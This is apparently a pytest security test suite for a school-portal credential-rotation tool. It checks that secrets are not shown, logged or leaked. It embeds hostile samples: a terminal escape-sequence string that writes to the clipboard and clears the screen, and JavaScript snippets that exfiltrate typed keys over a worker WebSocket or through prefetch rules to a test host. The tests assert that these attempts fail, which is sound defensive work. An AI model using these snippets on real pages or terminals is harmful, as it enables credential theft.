"""What somebody would try who is after a key, a password or a name; every secret and every name here is made up."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser

from adapters.portal.browser.served import Scripted, Served, chromium, playwright, program, serving
from adapters.portal.browser.test_scripted import AFTER_FIELDS, PAIR, portal
from adapters.portal.home_made_portal import LOG_IN, OLD_KEY, HomeMade
from cli.desk import TODAY, Desk, Paper, Person, Screen
from pretend import Clock, MemoryVault
from ssrcred.app.environment import Environment
from ssrcred.app.session import Session
from ssrcred.domain.errors import PageNotUnderstood
from ssrcred.domain.event import Event, Outcome, Step
from ssrcred.domain.place import DISTRICT, Holds
from ssrcred.domain.standing import Standing
from ssrcred.output import document, person
from ssrcred.output.person import bar
from ssrcred.workflows import rotation
from ssrcred.workflows.workflow import Ports, Workflow
from waiting import HUNG_S, until

__all__ = ["chromium", "playwright"]

TRICK = "Lincoln\x1b]52;c;bWFkZSB1cA==\x07 [red]High[/red]\x1b[2J\x9b2J\u202egnp"
"""The name of a school that fills the clipboard, wipes the screen, colors a word and turns round what follows."""
OBEYED = frozenset("\x1b\x07\x9b\u202e")


def harmless(said: str) -> None:
    """Fail the test unless the trick is there, its markup as text, and nothing in it that a terminal obeys."""
    assert "Lincoln" in said and "[red]High[/red]" in said
    assert not OBEYED & set(said), repr(said)


def test_the_name_of_a_school_on_a_page_is_shown_and_not_obeyed() -> None:
    app = HomeMade()
    app.pairs = {"District": ("OLD", OLD_KEY), TRICK: ("", "")}
    with closing(app.portal()) as door:
        readings = door.places()
    out = Paper()
    session = Session(Environment(environ={}, stdout=out, stderr=out), "schools")
    person.places(session.terminal.console(answer=True), [(one, Holds.OTHER) for one in readings])
    harmless(out.said)


def a_line(session: Session) -> None:
    session.terminal.say(f"{TRICK}: {TRICK}", style="bold")


def a_step(session: Session) -> None:
    session.terminal.narrator().tell(Event(Step.WRITE, Outcome.FAILED, TODAY, TRICK, {"reason": TRICK}))


def a_bar(session: Session) -> None:
    with bar(session.terminal.console(), 2, shown=True) as advance:
        advance(TRICK)
        session.terminal.console().print(TRICK)


def a_question(session: Session) -> None:
    session.terminal.ask(TRICK, default=TRICK)


def an_objection(session: Session) -> None:
    objections = [TRICK, None]
    session.terminal.ask_until_good("Which", lambda answer: objections.pop(0))


@pytest.mark.parametrize("told", [a_line, a_step, a_bar, a_question, an_objection])
def test_words_from_outside_are_shown_and_not_obeyed(told: Callable[[Session], None]) -> None:
    screen = Screen()
    typed = Person(screen, [("", "x"), ("", "x")])
    environ = {"TERM": "dumb", "COLUMNS": "60"}
    told(Session(Environment(environ=environ, stdin=typed, stdout=screen, stderr=screen), "rotate"))
    harmless(screen.shown)


def test_the_three_lines_of_an_error_are_shown_and_not_obeyed(tmp_path_factory: pytest.TempPathFactory) -> None:
    ran = Desk(tmp_path_factory.mktemp("desk")).run("schedule", "--what", TRICK)
    assert ran.code == 2
    harmless(ran.err)


def test_a_key_that_somebody_saved_as_the_user_name_is_neither_shown_nor_recorded() -> None:
    swapped = "*MadeUp>()(Swapped0*"
    app, out = HomeMade(), Paper()
    app.pairs = {"District": (swapped, "madeup-user"), "North High": (swapped, "")}
    session = Session(Environment(environ={}, stdout=out, stderr=out), "rotate")
    with closing(app.portal()) as door:
        held = [(reading, Holds.OTHER) for reading in door.places()]
        workflow = Workflow(Ports(MemoryVault(), door, None, Clock()), Standing())
        happened = list(rotation.prepare(workflow, replace=False))
    for event in happened:
        session.terminal.narrator().tell(event)
    person.places(session.terminal.console(answer=True), held)
    told = f"{out.said}{document.places(held)}{document.events(happened, finished=False)}"
    assert told.count("looks like a key") >= 6
    assert swapped not in told


@pytest.mark.parametrize("words", [("secret", "set", "schoolwise"), ("store",), ("rotate",), ("resume",)])
def test_no_secret_is_taken_by_standard_input_where_a_terminal_would_show_it(
    words: tuple[str, ...], tmp_path: Path
) -> None:
    desk = Desk(tmp_path)
    site = ("--url", "https://made-up.schoolwise.com", "--username", "itstaff", "--driver", "hand")
    desk.run("setup", "--lea", "lincoln", "--name", "Made-Up", "--cds", "19647330000000", *site, "--no-input")
    ran = desk.sit(*words, "--stdin")
    assert (ran.code, ran.error["error"]) == (2, "Standard input is this terminal, which would show what you type.")
    assert not desk.events()


@pytest.mark.parametrize("words", [("secret", "set", "schoolwise"), ("store",), ("store", "MADEUP-USER"), ("rotate",)])
def test_a_secret_that_somebody_typed_behind_a_command_is_not_said_again(
    words: tuple[str, ...], tmp_path: Path
) -> None:
    ran = Desk(tmp_path).run(*words, "made-up-secret")
    assert ran.code == 2
    assert "made-up-secret" not in ran.out + ran.err
    assert "the shell remembers it" in ran.error["state"]


@pytest.mark.parametrize("method", ["get", "dialog", "no such method"])
def test_no_password_goes_into_an_address_because_a_button_says_so(method: str) -> None:
    addresses: list[str] = []

    def answering(request: httpx.Request, form: dict[str, str]) -> str:
        addresses.append(str(request.url))
        return LOG_IN.format(notice="").replace("<button>", f'<button formmethod="{method}">')

    with (
        closing(HomeMade(answering=answering).portal()) as door,
        pytest.raises(PageNotUnderstood, match="no sign-in form"),
    ):
        door.places()
    assert not [address for address in addresses if "?" in address]


ON_A_LOOSE_MACHINE = """
import os, resource, sys
os.umask(0)
resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
from ssrcred.cli.main import program
code = program()
dumpable = __import__("ctypes").CDLL(None).prctl(3, 0, 0, 0, 0) if sys.platform == "linux" else 0
print(code, resource.getrlimit(resource.RLIMIT_CORE)[0], dumpable)
"""


@pytest.mark.skipif(os.name != "posix", reason="Windows has neither a umask nor images of memory by a limit")
def test_all_that_is_made_is_the_accounts_own_whatever_its_umask_and_no_crash_leaves_a_key(tmp_path: Path) -> None:
    homes = {
        "HOME": str(tmp_path),
        "XDG_CONFIG_HOME": str(tmp_path / "config"),
        "XDG_DATA_HOME": str(tmp_path / "data"),
    }
    environ = {name: value for name, value in os.environ.items() if name != "SSRCRED_HOME"} | homes
    site = ("--url", "https://madeup.example", "--username", "itstaff")
    for words, code in (
        (("vault", "init", "--key-file", str(tmp_path / "keys" / "key"), "--no-input"), 0),
        (("setup", "--lea", "lincoln", "--name", "Made-Up", "--cds", "19647330000000", *site, "--no-input"), 0),
        (("abandon",), 2),
    ):
        command = [sys.executable, "-c", ON_A_LOOSE_MACHINE, *words]
        ran = subprocess.run(command, env=environ, capture_output=True, text=True, timeout=HUNG_S, check=False)
        assert ran.stdout.splitlines()[-1:] == [f"{code} 0 0"], ran
    made = [path for path in tmp_path.rglob("*") if path.stat().st_mode & 0o077]
    assert not made
    assert list(tmp_path.rglob("ledger.sqlite"))


def asked_for(served: Served, path: str) -> str:
    """The address of the first request whose path begins so, once it has come."""
    return until(lambda: [address for _, address, _ in served.asked if address.startswith(path)], path)[0]


@pytest.mark.real("chromium")
@pytest.mark.filterwarnings("ignore::ResourceWarning")
@pytest.mark.parametrize("way", ["blob", "data"])
def test_what_was_typed_leaves_by_no_workers_socket_and_by_no_call(chromium: Browser, way: str) -> None:
    # The browser pauses every request of a page before it is sent, but neither a worker's socket nor a call.
    with serving(lambda request: httpx.Response(200, text="")) as other:
        steal = """key.addEventListener("input", () => {
            const code = `const over = () => postMessage("over"); try {
              const socket = new WebSocket("%s/?k=${encodeURIComponent(key.value)}");
              socket.onopen = socket.onerror = socket.onclose = over;
            } catch (refused) { over(); }`;
            const address = "%s" === "blob" ? URL.createObjectURL(new Blob([code]))
              : "data:text/javascript," + encodeURIComponent(code);
            const bare = document.createElement("iframe");
            document.body.append(bare);
            const calls = [window, bare.contentWindow].map((one) => typeof one.RTCPeerConnection).join("-");
            bare.remove();
            new Worker(address).onmessage = () => fetch("/api/done/" + calls);
        }, { once: true })"""
        app = Scripted(AFTER_FIELDS % (steal % (other.url.replace("http", "ws"), way)))
        with serving(app) as served, closing(portal(served, chromium)) as door:
            door.write(DISTRICT, PAIR)
            assert asked_for(served, "/api/done/") == "/api/done/undefined-undefined"
    assert not other.asked
    assert len(app.saves) == 1


@pytest.mark.real("chromium")
@pytest.mark.filterwarnings("ignore::ResourceWarning")
@pytest.mark.parametrize("way", ["form", "button"])
@pytest.mark.parametrize("address", ["mailto:thief@madeup.example", "madeup-program:take"])
def test_nothing_is_typed_into_a_form_that_starts_another_program(chromium: Browser, way: str, address: str) -> None:
    page = LOG_IN.format(notice="")
    page = (
        page.replace("/login", address) if way == "form" else page.replace("<button", f"<button formaction={address}")
    )

    def answering(request: httpx.Request, form: dict[str, str]) -> str:
        return page

    stops = pytest.raises(PageNotUnderstood, match="leads to another site")
    with serving(HomeMade(answering=answering)) as served, closing(portal(served, chromium)) as door, stops:
        door.places()


@pytest.mark.real("chromium")
@pytest.mark.filterwarnings("ignore::ResourceWarning")
@pytest.mark.parametrize("place", ["document.head", "shadow", "markup"])
def test_what_was_typed_is_in_no_address_that_the_browser_fetches_beforehand(chromium: Browser, place: str) -> None:
    with serving(lambda request: httpx.Response(200, text="")) as other:
        steal = """key.addEventListener("input", () => {
            const there = ["%s/" + key.value.split("").reverse().join("")];
            const rules = JSON.stringify({ prefetch: [{ source: "list", urls: there, eagerness: "immediate" }] });
            const script = Object.assign(document.createElement("script"), { type: "speculationrules" });
            script.textContent = rules;
            const host = document.body.appendChild(document.createElement("p"));
            if ("%s" === "shadow") host.attachShadow({ mode: "closed" }).append(script);
            else if ("%s" === "markup") host.append(document.createRange().createContextualFragment(script.outerHTML));
            else document.head.append(script);
        }, { once: true })"""
        app = Scripted(AFTER_FIELDS % (steal % (other.url, place, place)))
        with serving(app) as served, closing(portal(served, chromium)) as door:
            door.write(DISTRICT, PAIR)
            time.sleep(1)  # what would be fetched comes within it; what is not fetched never does
    assert not other.asked
    assert len(app.saves) == 1


@pytest.mark.real("chromium")
@pytest.mark.filterwarnings("ignore::ResourceWarning")
def test_no_browser_writes_down_the_keys_of_its_connections(tmp_path: Path) -> None:
    started = """if True:
        import sys
        from contextlib import closing
        from playwright.sync_api import Error
        from ssrcred.adapters.portal.browser.engine import Engine
        with closing(Engine(sys.argv[1])) as engine:
            page = engine.launch().new_page()
            try:
                page.goto("https://127.0.0.1:9/")
            except Error:
                print("tried")
    """
    keys = tmp_path / "keys.log"
    command, environ = [sys.executable, "-c", started, program()], {**os.environ, "SSLKEYLOGFILE": str(keys)}
    ran = subprocess.run(command, env=environ, capture_output=True, text=True, timeout=HUNG_S, check=False)
    assert ran.stdout == "tried\n", ran.stderr
    assert not keys.exists()


def test_no_message_to_a_chat_writes_down_the_keys_of_its_connection(tmp_path: Path) -> None:
    pytest.importorskip("apprise")
    sent = """if True:
        import io, json, sys
        from ssrcred.adapters.notify.chat import send_by_apprise
        order = {"address": "made-up://", "title": "", "text": ""}
        print(int(send_by_apprise(io.BytesIO(json.dumps(order).encode()))))
        from urllib3.util.ssl_ import create_urllib3_context
        print(create_urllib3_context().keylog_filename)
    """
    environ = {**os.environ, "SSLKEYLOGFILE": str(tmp_path / "keys.log")}
    ran = subprocess.run([sys.executable, "-c", sent], env=environ, capture_output=True, text=True, timeout=HUNG_S)
    assert ran.stdout.split() == ["4", "None"], ran.stderr


@pytest.mark.real("chromium")
@pytest.mark.filterwarnings("ignore::ResourceWarning")
def test_what_a_page_asks_a_family_is_not_repeated(chromium: Browser) -> None:
    page = """<form method=post action=/view onsubmit="return confirm('Open the report of Made-Up Student?')">
        <button>View CAASPP/ELPAC</button></form>"""
    app = HomeMade({"/": page})
    with serving(app) as served, closing(portal(served, chromium)) as door:
        proof = door.prove(DISTRICT)
    assert proof.outcome is Outcome.NOT_UNDERSTOOD
    assert "asked" in proof.detail
    assert "Student" not in proof.detail
    assert ("POST", "/view") not in app.asked
